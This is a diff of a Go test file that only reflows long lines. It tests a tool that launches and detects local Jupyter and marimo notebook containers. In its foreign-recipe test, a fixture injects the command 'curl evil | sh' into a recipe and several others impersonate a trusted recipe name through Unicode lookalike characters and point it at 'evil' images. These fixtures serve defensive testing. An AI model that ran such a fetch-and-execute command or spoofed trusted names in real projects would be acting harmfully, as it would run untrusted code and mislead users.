@@ -38,8 +38,12 @@ func TestBuiltinRecipes(t *testing.T) {
 		if r.About == "" || r.Own || len(r.Platforms) == 0 {
 			t.Errorf("%+v", r)
 		}
-		s := Launch{Recipe: r, Image: r.Reference(), Folder: "/home/me/x", Name: "x", HostPort: 9, Token: "hush-hush", Host: Host{UID: 1234, GID: 5678}}.Spec()
-		if line := s.RunCommand().String(); strings.Contains(line, "hush-hush") || !strings.Contains(line, "-p 127.0.0.1:9:") {
+		s := Launch{
+			Recipe: r, Image: r.Reference(), Folder: "/home/me/x", Name: "x", HostPort: 9, Token: "hush-hush",
+			Host: Host{UID: 1234, GID: 5678},
+		}.Spec()
+		if line := s.RunCommand().
+			String(); strings.Contains(line, "hush-hush") || !strings.Contains(line, "-p 127.0.0.1:9:") {
 			t.Errorf("%s: %s", r.ID, line)
 		}
 		secret := strings.Contains(s.RunCommand().WithSecrets(), "hush-hush")
@@ -124,12 +128,28 @@ func TestUsers(t *testing.T) {
 		how  string
 		want result
 	}{
-		"1000":            {Host{UID: 1000, GID: 1000}, UserJupyter, result{}},
-		"another":         {Host{UID: 501, GID: 20}, UserJupyter, result{User: "501", Groups: []string{"users"}}},
-		"root":            {Host{UID: 0}, UserJupyter, result{User: "root", Env: []string{"NB_USER=root", "NB_UID=0", "NB_GID=0", "NOTEBOOK_ARGS=--allow-root"}}},
-		"rootless":        {Host{UID: 1000, Engine: model.EngineInfo{Rootless: true}}, UserJupyter, result{User: "root", Env: []string{"NB_USER=root", "NB_UID=0", "NB_GID=0", "NOTEBOOK_ARGS=--allow-root"}}},
-		"rootless podman": {Host{UID: 1000, Engine: model.EngineInfo{Rootless: true, Product: "Podman"}}, UserJupyter, result{UserNS: "keep-id:uid=1000,gid=100"}},
-		"remapped":        {Host{UID: 1000, Engine: model.EngineInfo{UserNSRemap: true}}, UserJupyter, result{UserNS: "host"}},
+		"1000":    {Host{UID: 1000, GID: 1000}, UserJupyter, result{}},
+		"another": {Host{UID: 501, GID: 20}, UserJupyter, result{User: "501", Groups: []string{"users"}}},
+		"root": {
+			Host{UID: 0},
+			UserJupyter,
+			result{User: "root", Env: []string{"NB_USER=root", "NB_UID=0", "NB_GID=0", "NOTEBOOK_ARGS=--allow-root"}},
+		},
+		"rootless": {
+			Host{UID: 1000, Engine: model.EngineInfo{Rootless: true}},
+			UserJupyter,
+			result{User: "root", Env: []string{"NB_USER=root", "NB_UID=0", "NB_GID=0", "NOTEBOOK_ARGS=--allow-root"}},
+		},
+		"rootless podman": {
+			Host{UID: 1000, Engine: model.EngineInfo{Rootless: true, Product: "Podman"}},
+			UserJupyter,
+			result{UserNS: "keep-id:uid=1000,gid=100"},
+		},
+		"remapped": {
+			Host{UID: 1000, Engine: model.EngineInfo{UserNSRemap: true}},
+			UserJupyter,
+			result{UserNS: "host"},
+		},
 		"virtual machine": {Host{UID: 501, Locality: model.VirtualMachine}, UserJupyter, result{}},
 		"no IDs":          {Host{UID: -1, GID: -1}, UserJupyter, result{}},
 		"rocker":          {Host{UID: 501, GID: 20}, UserRocker, result{Env: []string{"USERID=501", "GROUPID=20"}}},
@@ -151,7 +171,10 @@ func TestUsers(t *testing.T) {
 
 func TestContainerName(t *testing.T) {
 	taken := map[string]bool{"thesis": true, "thesis-2": true}
-	for folder, want := range map[string]string{"/a/thesis": "thesis-3", "/a/My work (2026)": "My-work-2026", "/": "notebook", "/a/ü": "notebook", "/a/Müller": "Muller"} {
+	for folder, want := range map[string]string{
+		"/a/thesis": "thesis-3", "/a/My work (2026)": "My-work-2026",
+		"/": "notebook", "/a/ü": "notebook", "/a/Müller": "Muller",
+	} {
 		if got := ContainerName(folder, taken); got != want {
 			t.Errorf("%s: %s, want %s", folder, got, want)
 		}
@@ -173,12 +196,35 @@ func TestServers(t *testing.T) {
 		url       string
 		known     bool
 	}{
-		"launched":       {model.Container{Image: "x", Marks: map[string]string{model.LabelRecipe: "scipy"}, Env: []string{"JUPYTER_TOKEN=t"}, Ports: published(8888, 1)}, "http://127.0.0.1:1/lab?token=t", true},
-		"marimo":         {model.Container{Image: "x", Marks: map[string]string{model.LabelRecipe: "marimo"}, Command: "marimo edit --token-password=t /app", Ports: published(8080, 2)}, "http://127.0.0.1:2/?access_token=t", true},
-		"by its image":   {model.Container{Image: "quay.io/jupyter/r-notebook:latest", Ports: published(8888, 3)}, "http://127.0.0.1:3/lab", false},
-		"by its command": {model.Container{Image: "me", Command: "tini -- jupyter lab --ServerApp.token=abc --ServerApp.base_url=/x/y --port=9999", Ports: published(9999, 4)}, "http://127.0.0.1:4/x/y/lab?token=abc", true},
-		"by its args":    {model.Container{Image: "me", Env: []string{"NOTEBOOK_ARGS=--IdentityProvider.token='abc'"}, Ports: published(8888, 5)}, "http://127.0.0.1:5/lab?token=abc", true},
-		"by its token":   {model.Container{Image: "me", Env: []string{"JUPYTER_TOKEN=e", "JUPYTER_PORT=7000"}, Ports: published(7000, 6)}, "http://127.0.0.1:6/lab?token=e", true},
+		"launched": {model.Container{
+			Image: "x", Marks: map[string]string{model.LabelRecipe: "scipy"},
+			Env: []string{"JUPYTER_TOKEN=t"}, Ports: published(8888, 1),
+		}, "http://127.0.0.1:1/lab?token=t", true},
+		"marimo": {
+			model.Container{
+				Image: "x", Marks: map[string]string{model.LabelRecipe: "marimo"},
+				Command: "marimo edit --token-password=t /app", Ports: published(8080, 2),
+			},
+			"http://127.0.0.1:2/?access_token=t",
+			true,
+		},
+		"by its image": {
+			model.Container{Image: "quay.io/jupyter/r-notebook:latest", Ports: published(8888, 3)},
+			"http://127.0.0.1:3/lab", false,
+		},
+		"by its command": {model.Container{
+			Image:   "me",
+			Command: "tini -- jupyter lab --ServerApp.token=abc --ServerApp.base_url=/x/y --port=9999",
+			Ports:   published(9999, 4),
+		}, "http://127.0.0.1:4/x/y/lab?token=abc", true},
+		"by its args": {model.Container{
+			Image: "me", Env: []string{"NOTEBOOK_ARGS=--IdentityProvider.token='abc'"},
+			Ports: published(8888, 5),
+		}, "http://127.0.0.1:5/lab?token=abc", true},
+		"by its token": {model.Container{
+			Image: "me", Env: []string{"JUPYTER_TOKEN=e", "JUPYTER_PORT=7000"},
+			Ports: published(7000, 6),
+		}, "http://127.0.0.1:6/lab?token=e", true},
 	} {
 		c.container.Inspected = true
 		list := Servers([]model.Container{c.container}, recipes, here)
@@ -191,7 +237,10 @@ func TestServers(t *testing.T) {
 		inherits,
 		{Inspected: true, Image: "nginx", Ports: published(8888, 9)},
 		{Inspected: true, Image: "my-jupyterhub-proxy"},
-		{Inspected: true, Image: "quay.io/jupyter/r-notebook", Env: []string{"JUPYTER_PORT=8888"}, Command: "tini -g -- sleep 9", Ports: published(9000, 9)},
+		{
+			Inspected: true, Image: "quay.io/jupyter/r-notebook", Env: []string{"JUPYTER_PORT=8888"},
+			Command: "tini -g -- sleep 9", Ports: published(9000, 9),
+		},
 	}
 	if list := Servers(others, recipes, here); len(list) > 0 {
 		t.Errorf("taken for servers: %+v", list)
@@ -216,7 +265,10 @@ func served(t *testing.T, base, token string) Server {
 }
 
 func serverAt(port uint16) Server {
-	s := foreign(model.Container{ID: "c", Inspected: true, Image: "jupyter/x", Env: []string{"HOME=/home/me"}, Ports: published(8888, port)}, here)
+	s := foreign(model.Container{
+		ID: "c", Inspected: true, Image: "jupyter/x", Env: []string{"HOME=/home/me"},
+		Ports: published(8888, port),
+	}, here)
 	s.at = here
 	return s
 }
@@ -230,8 +282,14 @@ func (stale) SmallFiles(_ context.Context, _, dir string) ([]engine.File, error)
 	}
 	now := time.Now()
 	return []engine.File{
-		{Name: "jpserver-7.json", Modified: now.Add(-time.Hour), Data: []byte(`{"base_url": "/", "port": 8888, "secure": false, "token": "old"}`)},
-		{Name: "nbserver-8.json", Modified: now, Data: []byte(`{"base_url": "/some/where/", "hostname": "0.0.0.0", "port": 8888, "secure": false, "token": "good"}`)},
+		{
+			Name: "jpserver-7.json", Modified: now.Add(-time.Hour),
+			Data: []byte(`{"base_url": "/", "port": 8888, "secure": false, "token": "old"}`),
+		},
+		{
+			Name: "nbserver-8.json", Modified: now,
+			Data: []byte(`{"base_url": "/some/where/", "hostname": "0.0.0.0", "port": 8888, "secure": false, "token": "good"}`),
+		},
 		{Name: "jpserver-9.json", Modified: now.Add(time.Second), Data: []byte(`{"base_url": `)},
 		{Name: "kernel-1.json", Modified: now.Add(time.Second), Data: []byte(`{"token": "kernel"}`)},
 	}, nil
@@ -257,7 +315,10 @@ func TestLookPassesStaleFiles(t *testing.T) {
 type secure struct{ stale }
 
 func (secure) SmallFiles(context.Context, string, string) ([]engine.File, error) {
-	return []engine.File{{Name: "jpserver-7.json", Data: []byte(`{"base_url": "/", "port": 8888, "secure": true, "token": "good"}`)}}, nil
+	return []engine.File{{
+		Name: "jpserver-7.json",
+		Data: []byte(`{"base_url": "/", "port": 8888, "secure": true, "token": "good"}`),
+	}}, nil
 }
 
 func TestLookHTTPS(t *testing.T) {
@@ -305,7 +366,8 @@ func TestAsk(t *testing.T) {
 	}
 	silent := uint16(l.Addr().(*net.TCPAddr).Port)
 	l.Close()
-	if answer, err := Wait(t.Context(), serverAt(silent), 250*time.Millisecond); answer != NotYet || !errors.Is(err, ErrNotUp) {
+	if answer, err := Wait(t.Context(), serverAt(silent), 250*time.Millisecond); answer != NotYet ||
+		!errors.Is(err, ErrNotUp) {
 		t.Errorf("nobody: %s %v", answer, err)
 	}
 }
@@ -317,7 +379,10 @@ func TestNoTokenInACommand(t *testing.T) {
 		t.Fatal(recipes, problems)
 	}
 	for _, r := range recipes {
-		l := Launch{Recipe: r, Image: r.Reference(), Folder: "/a", Name: "n", HostPort: 1, Token: NewToken(), Host: Host{UID: 1000, GID: 1000}}
+		l := Launch{
+			Recipe: r, Image: r.Reference(), Folder: "/a", Name: "n", HostPort: 1, Token: NewToken(),
+			Host: Host{UID: 1000, GID: 1000},
+		}
 		s := l.Spec()
 		if strings.Contains(strings.Join(append(s.Command, s.Entrypoint...), " "), l.Token) {
 			t.Errorf("%s: %q", r.ID, s.Command)
@@ -332,7 +397,8 @@ func TestNoTokenInACommand(t *testing.T) {
 // TestForeignRecipes has recipes that somebody else put into the user's folder.
 func TestForeignRecipes(t *testing.T) {
 	own := func(name, image string) *fstest.MapFile {
-		return &fstest.MapFile{Data: []byte(strings.NewReplacer("name: Mine", "name: "+name, "image: example.org/me/nb", "image: "+image).Replace(good))}
+		return &fstest.MapFile{Data: []byte(strings.NewReplacer("name: Mine", "name: "+name, "image: example.org/me/nb",
+			"image: "+image).Replace(good))}
 	}
 	minimal, err := assets.Recipes.ReadFile("recipes/minimal.yaml")
 	if err != nil {
@@ -343,16 +409,26 @@ func TestForeignRecipes(t *testing.T) {
 		t.Fatal(err)
 	}
 	recipes, problems := Load(assets.Recipes, fstest.MapFS{
-		"scipy.yaml": own("Scientific Python", "ghcr.io/evil/x"), "mine.yaml": own("Mine", "example.org/me/nb"), "like.yaml": own("scientific python", "ghcr.io/evil/y"),
-		"minimal.yaml": {Data: minimal}, "r.yaml": {Data: bytes.Replace(rRecipe, []byte("port:"), []byte("command: [sh, -c, 'curl evil | sh']\nport:"), 1)},
-		"zz.yaml": own("\"Scientific  Python\"", "ghcr.io/evil/a"), "hyphen.yaml": own("\"Scientific\\u2010Python\"", "ghcr.io/evil/b"), "cyrillic.yaml": own("\"S\\u0441ientific Python\"", "ghcr.io/evil/c"), "wide.yaml": own("\"\\uff33cientific Python\"", "ghcr.io/evil/d"), "unseen.yaml": own(`"Scientific\u200b Python"`, "ghcr.io/evil/z"), "long.yaml": own(strings.Repeat("x", 500), "ghcr.io/evil/z"),
+		"scipy.yaml": own("Scientific Python", "ghcr.io/evil/x"), "mine.yaml": own("Mine", "example.org/me/nb"),
+		"like.yaml":    own("scientific python", "ghcr.io/evil/y"),
+		"minimal.yaml": {Data: minimal},
+		"r.yaml": {Data: bytes.Replace(rRecipe, []byte("port:"), []byte("command: [sh, -c, 'curl evil | sh']\nport:"),
+			1)},
+		"zz.yaml":       own("\"Scientific  Python\"", "ghcr.io/evil/a"),
+		"hyphen.yaml":   own("\"Scientific\\u2010Python\"", "ghcr.io/evil/b"),
+		"cyrillic.yaml": own("\"S\\u0441ientific Python\"", "ghcr.io/evil/c"),
+		"wide.yaml":     own("\"\\uff33cientific Python\"", "ghcr.io/evil/d"),
+		"unseen.yaml":   own(`"Scientific\u200b Python"`, "ghcr.io/evil/z"),
+		"long.yaml":     own(strings.Repeat("x", 500), "ghcr.io/evil/z"),
 	})
 	if len(problems) != 3 {
 		t.Errorf("%v", problems)
 	}
 	want := map[string]string{
-		"scipy": "quay.io/jupyter/scipy-notebook", "like": "quay.io/jupyter/scipy-notebook", "mine": "", "minimal": "", "r": "quay.io/jupyter/r-notebook",
-		"zz": "quay.io/jupyter/scipy-notebook", "hyphen": "quay.io/jupyter/scipy-notebook", "wide": "quay.io/jupyter/scipy-notebook",
+		"scipy": "quay.io/jupyter/scipy-notebook", "like": "quay.io/jupyter/scipy-notebook", "mine": "", "minimal": "",
+		"r":  "quay.io/jupyter/r-notebook",
+		"zz": "quay.io/jupyter/scipy-notebook", "hyphen": "quay.io/jupyter/scipy-notebook",
+		"wide": "quay.io/jupyter/scipy-notebook",
 	}
 	for _, r := range recipes {
 		instead, mine := want[r.ID]
@@ -398,18 +474,29 @@ func TestOtherServers(t *testing.T) {
 	if !hubbed.Hubbed || hubbed.Reached() {
 		t.Errorf("%+v", hubbed)
 	}
-	host := at(model.Container{Image: "x", Argv: []string{"jupyter", "lab", "--ip=127.0.0.1", "--port=18888"}, Command: "jupyter lab --ip=127.0.0.1 --port=18888", HostNetwork: true, Env: []string{"JUPYTER_TOKEN=t"}})
-	if host.URL() != "http://127.0.0.1:18888/lab" || host.Token != "" || host.Known || !host.Local() || host.Wide() { // who answers there is not known yet
+	host := at(model.Container{
+		Image: "x", Argv: []string{"jupyter", "lab", "--ip=127.0.0.1", "--port=18888"},
+		Command: "jupyter lab --ip=127.0.0.1 --port=18888", HostNetwork: true, Env: []string{"JUPYTER_TOKEN=t"},
+	})
+	// who answers there is not known yet
+	if host.URL() != "http://127.0.0.1:18888/lab" || host.Token != "" || host.Known || !host.Local() || host.Wide() {
 		t.Errorf("%s %+v", host.URL(), host)
 	}
-	if wide := at(model.Container{Image: "x", Argv: []string{"jupyter", "lab", "--ip=0.0.0.0"}, Command: "jupyter lab --ip=0.0.0.0", HostNetwork: true}); !wide.Wide() {
+	if wide := at(model.Container{
+		Image: "x", Argv: []string{"jupyter", "lab", "--ip=0.0.0.0"},
+		Command: "jupyter lab --ip=0.0.0.0", HostNetwork: true,
+	}); !wide.Wide() {
 		t.Errorf("%+v", wide)
 	}
-	own := at(model.Container{Image: "x", Argv: []string{"jupyter", "lab"}, Command: "jupyter lab --ServerApp.password=argon2:x --ServerApp.token=", Ports: published(8888, 1)})
+	own := at(model.Container{
+		Image: "x", Argv: []string{"jupyter", "lab"},
+		Command: "jupyter lab --ServerApp.password=argon2:x --ServerApp.token=", Ports: published(8888, 1),
+	})
 	if own.SignIn.Method != SignInOwn || own.Open() || own.URL() != "http://127.0.0.1:1/lab" {
 		t.Errorf("%+v", own)
 	}
-	away := Servers([]model.Container{{Inspected: true, Image: "x", Argv: []string{"jupyter", "lab"}, HostNetwork: true}}, nil, Place{Locality: model.VirtualMachine})
+	away := Servers([]model.Container{{Inspected: true, Image: "x", Argv: []string{"jupyter", "lab"}, HostNetwork: true}},
+		nil, Place{Locality: model.VirtualMachine})
 	if len(away) != 1 || away[0].Reached() {
 		t.Errorf("%+v", away)
 	}
